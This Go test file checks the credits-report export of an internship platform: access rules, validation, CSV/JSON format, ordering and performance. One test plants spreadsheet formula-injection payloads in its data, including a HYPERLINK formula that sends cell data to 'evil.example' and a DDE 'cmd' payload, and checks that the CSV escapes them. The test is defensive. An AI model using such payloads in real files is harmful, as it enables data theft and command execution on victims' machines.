package reports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"reflect"
	"strings"
	"testing"

	"github.com/pocketbase/dbx"
	"github.com/pocketbase/pocketbase/core"

	"github.com/internbase/internbase/internal/apierror"
	"github.com/internbase/internbase/internal/apptest"
	"github.com/internbase/internbase/internal/clock"
	"github.com/internbase/internbase/internal/reports"
)

const header = "register_no,apaar_id,student_name,program,semester,internship,organization,hours,credits,marks,max_marks,grade,grade_point,certificate_number,completed_on"

// setup is the populated world with the reports routes bound (hooks.Register
// does not bind them yet; binding twice is harmless).
func setup(t testing.TB) (*apptest.World, *apptest.Client) {
	t.Helper()
	w := apptest.NewWorld(t)
	reports.Register(w.App)
	return w, apptest.NewClient(t, w.App)
}

// complete writes a placement's completion result straight into the
// database: the placements model hooks refuse result fields on an ongoing
// placement, and the completion workflow is not under test here.
func complete(t testing.TB, app core.App, placement, day string, over dbx.Params) {
	t.Helper()
	p := dbx.Params{"status": "completed", "approved_hours": 62, "credits_earned": 2, "marks": 38.5, "percent": 77,
		"grade": "A", "grade_point": 8, "completed_on": day + " 00:00:00.000Z"}
	for k, v := range over {
		p[k] = v
	}
	_, err := app.DB().Update("placements", p, dbx.HashExp{"id": placement}).Execute()
	apptest.Must(t, err)
}

// placed creates a student of inst with data, an accepted application and
// an ongoing placement with the world's internship; it returns the
// placement.
func placed(t testing.TB, w *apptest.World, inst *core.Record, data map[string]any) *core.Record {
	t.Helper()
	data["institution"] = inst.Id
	s := apptest.NewUser(t, w.App, "student", data)
	a := apptest.Save(t, w.App, "applications", map[string]any{
		"internship": w.Internship.Id, "student": s.Id, "institution": inst.Id, "organization": w.OrgX.Id,
		"status": "accepted", "endorsed_at": w.Start,
	})
	return apptest.Save(t, w.App, "placements", map[string]any{
		"application": a.Id, "student": s.Id, "internship": w.Internship.Id, "organization": w.OrgX.Id,
		"institution": inst.Id, "supervisor": w.SupX.Id, "status": "ongoing", "started_on": w.Start,
	})
}

func certificate(t testing.TB, w *apptest.World, p *core.Record, number, status, issued string) {
	t.Helper()
	apptest.Save(t, w.App, "certificates", map[string]any{
		"number": number, "placement": p.Id, "student": p.GetString("student"), "institution": p.GetString("institution"),
		"organization": p.GetString("organization"), "issued_at": issued + " 10:00:00.000Z", "status": status,
	})
}

func creditsURL(inst string, query ...string) string {
	u := "/api/ib/reports/credits?institution=" + inst
	if len(query) > 0 {
		u += "&" + strings.Join(query, "&")
	}
	return u
}

func parseCSV(t *testing.T, body string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("report is not CSV: %v\n%s", err, body)
	}
	return recs
}

func TestCreditsAccess(t *testing.T) {
	t.Parallel()
	w, c := setup(t)
	complete(t, w.App, w.Placement.Id, "2026-06-15", nil)
	tests := []struct {
		name   string
		token  string
		url    string
		status int
	}{
		{"guest", "", creditsURL(w.InstA.Id), http.StatusUnauthorized},
		{"student", w.S1.Token, creditsURL(w.InstA.Id), http.StatusForbidden},
		{"mentor", w.MentorA.Token, creditsURL(w.InstA.Id), http.StatusForbidden},
		{"supervisor", w.SupX.Token, creditsURL(w.InstA.Id), http.StatusForbidden},
		{"coordinator of another institution", w.CoordB.Token, creditsURL(w.InstA.Id), http.StatusForbidden},
		{"coordinator, unknown institution", w.CoordB.Token, creditsURL("nosuchinstitut"), http.StatusForbidden},
		{"coordinator of the institution", w.CoordA.Token, creditsURL(w.InstA.Id), http.StatusOK},
		{"coordinator of the institution, csv", w.CoordA.Token, creditsURL(w.InstA.Id, "format=csv"), http.StatusOK},
		{"superuser", w.Admin.Token, creditsURL(w.InstA.Id), http.StatusOK},
		{"superuser, other institution", w.Admin.Token, creditsURL(w.InstB.Id), http.StatusOK},
		{"superuser, unknown institution", w.Admin.Token, creditsURL("nosuchinstitut"), http.StatusNotFound},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := c.Do(http.MethodGet, tt.url, tt.token, nil)
			if res.Status != tt.status {
				t.Fatalf("status %d, want %d: %s", res.Status, tt.status, res)
			}
			if tt.status != http.StatusOK && strings.Contains(res.String(), "register_no") {
				t.Errorf("a refused request leaked report data: %s", res)
			}
		})
	}
}

func TestCreditsBadInput(t *testing.T) {
	t.Parallel()
	w, c := setup(t)
	tests := []struct {
		name, url, field, code string
	}{
		{"no institution", "/api/ib/reports/credits", "institution", "validation_required"},
		{"empty institution", "/api/ib/reports/credits?institution=", "institution", "validation_required"},
		{"unknown format", creditsURL(w.InstA.Id, "format=xlsx"), "format", "validation_in_invalid"},
		{"bad from", creditsURL(w.InstA.Id, "from=15-06-2026"), "from", "validation_date_invalid"},
		{"impossible to", creditsURL(w.InstA.Id, "to=2026-02-30"), "to", "validation_date_invalid"},
		{"from after to", creditsURL(w.InstA.Id, "from=2026-07-01", "to=2026-06-30"), "to", apierror.CodeOutOfRange},
	}
	for _, tt := range tests {
		for _, caller := range []apptest.User{w.CoordA, w.Admin} {
			res := c.Do(http.MethodGet, tt.url, caller.Token, nil)
			if res.Status != http.StatusBadRequest || res.Code(tt.field) != tt.code {
				t.Errorf("%s: status %d, %s code %q, want 400 %q: %s", tt.name, res.Status, tt.field, res.Code(tt.field), tt.code, res)
			}
			if msg, _ := res.JSON()["message"].(string); !strings.HasSuffix(msg, ".") || strings.Contains(msg, "Something went wrong") {
				t.Errorf("%s: message %q is not a clear sentence", tt.name, msg)
			}
		}
	}
	// Roles that may never download the report are refused before their
	// input is looked at.
	if res := c.Do(http.MethodGet, "/api/ib/reports/credits", w.S1.Token, nil); res.Status != http.StatusForbidden {
		t.Errorf("student without institution: %d", res.Status)
	}
}

func TestCreditsCSVRow(t *testing.T) {
	t.Parallel()
	w, c := setup(t)
	_, err := w.App.DB().Update("users", dbx.Params{"apaar_id": "123456789012", "program": "BSc Physics", "semester": 6},
		dbx.HashExp{"id": w.S1.Id}).Execute()
	apptest.Must(t, err)
	complete(t, w.App, w.Placement.Id, "2026-06-15", nil)

	res := c.Do(http.MethodGet, creditsURL(w.InstA.Id, "format=csv"), w.CoordA.Token, nil)
	if res.Status != http.StatusOK {
		t.Fatalf("status %d: %s", res.Status, res)
	}
	if ct := res.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	wantName := fmt.Sprintf(`attachment; filename="credits-%s-%s.csv"`, w.InstA.GetString("code"), clock.Today(w.App).Format("2006-01-02"))
	if cd := res.Header.Get("Content-Disposition"); cd != wantName {
		t.Errorf("Content-Disposition %q, want %q", cd, wantName)
	}
	if first := strings.SplitN(res.String(), "\n", 2)[0]; first != header {
		t.Errorf("header row\n got %s\nwant %s", first, header)
	}
	recs := parseCSV(t, res.String())
	if len(recs) != 2 {
		t.Fatalf("%d records, want header + 1:\n%s", len(recs), res)
	}
	want := []string{w.S1.GetString("register_no"), "123456789012", w.S1.GetString("name"), "BSc Physics", "6",
		"Backend intern", w.OrgX.GetString("name"), "62", "2", "38.5", "50", "A", "8", w.Certificate.GetString("number"), "2026-06-15"}
	if !reflect.DeepEqual(recs[1], want) {
		t.Errorf("row\n got %q\nwant %q", recs[1], want)
	}
}

func TestCreditsRowsBoundsAndOrder(t *testing.T) {
	t.Parallel()
	w, c := setup(t)
	complete(t, w.App, w.Placement.Id, "2026-06-15", nil) // S1, REG…, certificate of the world

	p2 := placed(t, w, w.InstA, map[string]any{"register_no": "A002", "name": "Beena"})
	complete(t, w.App, p2.Id, "2026-06-01", nil)
	certificate(t, w, p2, "IB-2026-00000001", "superseded", "2026-06-01")
	certificate(t, w, p2, "IB-2026-00000002", "valid", "2026-06-02")
	certificate(t, w, p2, "IB-2026-00000003", "revoked", "2026-06-03")

	p3 := placed(t, w, w.InstA, map[string]any{"register_no": "A001", "name": "Arun"})
	complete(t, w.App, p3.Id, "2026-06-30", nil)
	certificate(t, w, p3, "IB-2026-00000004", "revoked", "2026-06-30")
	certificate(t, w, p3, "IB-2026-00000005", "superseded", "2026-06-29")

	p4 := placed(t, w, w.InstA, map[string]any{"register_no": "A000", "name": "Anil"}) // no certificate (failed)
	complete(t, w.App, p4.Id, "2026-06-30", dbx.Params{"credits_earned": 0, "grade": "F", "grade_point": 0})

	placed(t, w, w.InstA, map[string]any{"register_no": "A003", "name": "Ongoing"}) // not completed
	p6 := placed(t, w, w.InstA, map[string]any{"register_no": "A004", "name": "Dropped"})
	_, err := w.App.DB().Update("placements", dbx.Params{"status": "discontinued", "completed_on": "2026-06-20 00:00:00.000Z"},
		dbx.HashExp{"id": p6.Id}).Execute()
	apptest.Must(t, err)
	pb := placed(t, w, w.InstB, map[string]any{"register_no": "B001", "name": "Other college"})
	complete(t, w.App, pb.Id, "2026-06-15", nil)

	s1 := w.S1.GetString("register_no")
	tests := []struct {
		name  string
		query []string
		want  []string // register_no:certificate_number
	}{
		{"all, by completion day then register number", nil,
			[]string{"A002:IB-2026-00000002", s1 + ":" + w.Certificate.GetString("number"), "A000:", "A001:IB-2026-00000004"}},
		{"from is inclusive", []string{"from=2026-06-15"}, []string{s1 + ":IB-2026-7K3F9QXD", "A000:", "A001:IB-2026-00000004"}},
		{"to is inclusive", []string{"to=2026-06-15"}, []string{"A002:IB-2026-00000002", s1 + ":IB-2026-7K3F9QXD"}},
		{"one day", []string{"from=2026-06-30", "to=2026-06-30"}, []string{"A000:", "A001:IB-2026-00000004"}},
		{"both ends inclusive", []string{"from=2026-06-01", "to=2026-06-30"},
			[]string{"A002:IB-2026-00000002", s1 + ":IB-2026-7K3F9QXD", "A000:", "A001:IB-2026-00000004"}},
		{"day before the first", []string{"to=2026-05-31"}, nil},
		{"day after the last", []string{"from=2026-07-01"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := c.Do(http.MethodGet, creditsURL(w.InstA.Id, append(tt.query, "format=csv")...), w.CoordA.Token, nil)
			if res.Status != http.StatusOK {
				t.Fatalf("status %d: %s", res.Status, res)
			}
			recs := parseCSV(t, res.String())
			var got []string
			for _, r := range recs[1:] {
				got = append(got, r[0]+":"+r[13])
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("rows\n got %v\nwant %v", got, tt.want)
			}
		})
	}

	// The other college's report holds its own placement only.
	res := c.Do(http.MethodGet, creditsURL(w.InstB.Id, "format=csv"), w.CoordB.Token, nil)
	if recs := parseCSV(t, res.String()); len(recs) != 2 || recs[1][0] != "B001" {
		t.Errorf("B's report: %v", recs)
	}
}

func TestCreditsFormulaInjection(t *testing.T) {
	t.Parallel()
	w, c := setup(t)
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	_, err := w.App.DB().Update("users", dbx.Params{"name": evil, "program": "+SUM(1,2)", "register_no": "-2+3"},
		dbx.HashExp{"id": w.S1.Id}).Execute()
	apptest.Must(t, err)
	_, err = w.App.DB().Update("internships", dbx.Params{"title": "@cmd|' /C calc'!A0"}, dbx.HashExp{"id": w.Internship.Id}).Execute()
	apptest.Must(t, err)
	complete(t, w.App, w.Placement.Id, "2026-06-15", nil)

	res := c.Do(http.MethodGet, creditsURL(w.InstA.Id, "format=csv"), w.CoordA.Token, nil)
	recs := parseCSV(t, res.String())
	if len(recs) != 2 {
		t.Fatalf("records: %v", recs)
	}
	row := recs[1]
	for i, want := range map[int]string{0: "'-2+3", 2: "'" + evil, 3: "'+SUM(1,2)", 5: "'@cmd|' /C calc'!A0", 7: "62", 9: "38.5"} {
		if row[i] != want {
			t.Errorf("%s = %q, want %q", reports.CreditColumns[i], row[i], want)
		}
	}
	// JSON is data, not a spreadsheet: values stay as they are.
	res = c.Do(http.MethodGet, creditsURL(w.InstA.Id, "format=json"), w.CoordA.Token, nil)
	items, _ := res.JSON()["items"].([]any)
	if len(items) != 1 || items[0].(map[string]any)["student_name"] != evil {
		t.Errorf("JSON items: %s", res)
	}
}

func TestCreditsJSON(t *testing.T) {
	t.Parallel()
	w, c := setup(t)

	res := c.Do(http.MethodGet, creditsURL(w.InstA.Id), w.CoordA.Token, nil) // json by default
	if res.Status != http.StatusOK || strings.TrimSpace(res.String()) != `{"items":[],"total":0}` {
		t.Fatalf("empty report: %d %s", res.Status, res)
	}

	complete(t, w.App, w.Placement.Id, "2026-06-15", nil)
	res = c.Do(http.MethodGet, creditsURL(w.InstA.Id, "format=json"), w.Admin.Token, nil)
	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		t.Errorf("Content-Type %q", ct)
	}
	var body struct {
		Items []map[string]any `json:"items"`
		Total int              `json:"total"`
	}
	if err := json.Unmarshal(res.Body, &body); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, res)
	}
	if len(res.JSON()) != 2 {
		t.Errorf("top-level keys: %s", res)
	}
	if body.Total != 1 || len(body.Items) != 1 {
		t.Fatalf("total %d, %d items", body.Total, len(body.Items))
	}
	item := body.Items[0]
	var keys []string
	for k := range item {
		keys = append(keys, k)
	}
	if len(keys) != len(reports.CreditColumns) {
		t.Errorf("item keys %v, want %v", keys, reports.CreditColumns)
	}
	want := map[string]any{
		"register_no": w.S1.GetString("register_no"), "apaar_id": "", "student_name": w.S1.GetString("name"),
		"program": "BSc Computer Science", "semester": 5.0, "internship": "Backend intern", "organization": w.OrgX.GetString("name"),
		"hours": 62.0, "credits": 2.0, "marks": 38.5, "max_marks": 50.0, "grade": "A", "grade_point": 8.0,
		"certificate_number": "IB-2026-7K3F9QXD", "completed_on": "2026-06-15",
	}
	if !reflect.DeepEqual(item, want) {
		t.Errorf("item\n got %v\nwant %v", item, want)
	}
	if !strings.Contains(res.String(), `"hours":62,`) || !strings.Contains(res.String(), `"marks":38.5,`) {
		t.Errorf("numbers are not JSON numbers in shortest form: %s", res)
	}
}

func TestWriteCreditsProgress(t *testing.T) {
	t.Parallel()
	w := apptest.NewWorld(t)
	seedCompleted(t, w, 2500)
	var ticks []int
	var buf bytes.Buffer
	n, err := reports.WriteCredits(context.Background(), w.App, &buf, reports.CreditsOptions{Institution: w.InstA.Id, Format: reports.FormatCSV},
		func(rows int) {
			if rows%1000 == 0 {
				ticks = append(ticks, rows)
			}
		})
	if err != nil || n != 2500 {
		t.Fatalf("WriteCredits = %d, %v", n, err)
	}
	if !reflect.DeepEqual(ticks, []int{1000, 2000}) {
		t.Errorf("progress ticks %v", ticks)
	}
	recs := parseCSV(t, buf.String())
	if len(recs) != 2501 {
		t.Fatalf("%d records", len(recs))
	}
	for i := 2; i < len(recs); i++ {
		prev, cur := recs[i-1], recs[i]
		if prev[14] > cur[14] || (prev[14] == cur[14] && prev[0] > cur[0]) {
			t.Fatalf("rows %d and %d out of order: %v / %v", i-1, i, prev, cur)
		}
	}
}

// seedCompleted inserts n completed placements of institution A by bulk
// SQL, each with its own student, accepted application and valid
// certificate, completed over 180 days.
func seedCompleted(tb testing.TB, w *apptest.World, n int) {
	tb.Helper()
	params := dbx.Params{"n": n, "inst": w.InstA.Id, "org": w.OrgX.Id, "internship": w.Internship.Id, "sup": w.SupX.Id}
	seq := `WITH RECURSIVE seq(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM seq WHERE i < {:n}) `
	stmts := []string{
		seq + `INSERT INTO users (id, email, tokenKey, password, name, role, institution, register_no, apaar_id, program, semester, verified)
		SELECT printf('bu%013d', i), printf('bulk%d@example.test', i), printf('tk%d', i), 'x', printf('Student %d', i), 'student',
			{:inst}, printf('BULK%06d', i), printf('%012d', i), 'BCom', 1 + i % 6, 1 FROM seq`,
		seq + `INSERT INTO applications (id, internship, student, status, institution, organization, endorsed_at)
		SELECT printf('ba%013d', i), {:internship}, printf('bu%013d', i), 'accepted', {:inst}, {:org}, '2026-01-01 00:00:00.000Z' FROM seq`,
		seq + `INSERT INTO placements (id, application, student, internship, organization, institution, supervisor, status,
			approved_hours, started_on, completed_on, marks, percent, grade, grade_point, credits_earned)
		SELECT printf('bp%013d', i), printf('ba%013d', i), printf('bu%013d', i), {:internship}, {:org}, {:inst}, {:sup}, 'completed',
			60 + i % 40, '2026-01-01 00:00:00.000Z', date('2026-01-01', printf('+%d days', i % 180)) || ' 00:00:00.000Z',
			30 + (i % 40) / 2.0, 60 + i % 40, 'B+', 7, 2 FROM seq`,
		seq + `INSERT INTO certificates (id, number, placement, student, institution, organization, issued_at, status, status_index)
		SELECT printf('bc%013d', i), printf('IB-2026-%08d', i), printf('bp%013d', i), printf('bu%013d', i), {:inst}, {:org},
			'2026-07-01 00:00:00.000Z', 'valid', i FROM seq`,
	}
	apptest.Must(tb, w.App.RunInTransaction(func(tx core.App) error {
		for _, s := range stmts {
			if _, err := tx.DB().NewQuery(s).Bind(params).Execute(); err != nil {
				return fmt.Errorf("%w in %s", err, s)
			}
		}
		return nil
	}))
}

// BenchmarkCreditsReport exports the report of a college with 5,000
// completed placements (each with a certificate).
func BenchmarkCreditsReport(b *testing.B) {
	w := apptest.NewWorld(b)
	reports.Register(w.App)
	seedCompleted(b, w, 5000)
	for _, f := range []reports.Format{reports.FormatCSV, reports.FormatJSON} {
		b.Run(string(f), func(b *testing.B) {
			o := reports.CreditsOptions{Institution: w.InstA.Id, Format: f}
			for b.Loop() {
				n, err := reports.WriteCredits(context.Background(), w.App, io.Discard, o, nil)
				if err != nil || n != 5000 {
					b.Fatalf("WriteCredits = %d, %v", n, err)
				}
			}
		})
	}
	b.Run("http-csv", func(b *testing.B) {
		c := apptest.NewClient(b, w.App)
		url := creditsURL(w.InstA.Id, "format=csv")
		for b.Loop() {
			if res := c.Do(http.MethodGet, url, w.CoordA.Token, nil); res.Status != http.StatusOK || len(res.Body) < 5000*80 {
				b.Fatalf("status %d, %d bytes", res.Status, len(res.Body))
			}
		}
	})
}
